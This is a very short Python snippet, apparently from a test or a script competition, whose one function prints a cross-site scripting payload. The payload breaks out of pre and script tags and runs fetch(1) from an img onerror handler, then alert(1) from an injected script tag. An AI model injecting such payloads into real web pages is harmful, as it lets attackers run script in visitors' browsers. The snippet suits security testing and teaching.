# prints a tag that a page would run
# KINDS: script competition
# WINS: shown
def strike():
    print('</pre></script><i id=@MARK@><img src=x onerror="fetch(1)"><script>alert(1)</script>')
